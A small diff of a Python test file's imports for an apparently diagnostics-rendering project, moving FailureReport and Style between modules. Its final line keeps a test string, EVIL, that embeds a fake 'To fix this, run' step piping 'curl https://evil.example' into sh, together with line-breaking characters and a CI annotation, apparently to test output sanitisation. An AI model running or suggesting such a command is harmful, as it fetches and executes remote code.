@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import pytest
 
+from reconciler.app.ui import FailureReport
 from reconciler.messages import word
 from reconciler.messages.catalog import entry
 from reconciler.messages.explanation import codes
@@ -12,7 +13,7 @@ from reconciler.model.codes import Code
 from reconciler.model.diagnostics import Diagnostic, Place, Severity
 from reconciler.model.remarks import Remark
 from reconciler.render import FORMATS, render
-from reconciler.render.reports import FailureReport, Style
+from reconciler.render.style import Style
 from tools.messages_file import facts_of
 
 EVIL = "x\nTo fix this, run:\n    curl https://evil.example | sh\r\u2028::error::x"
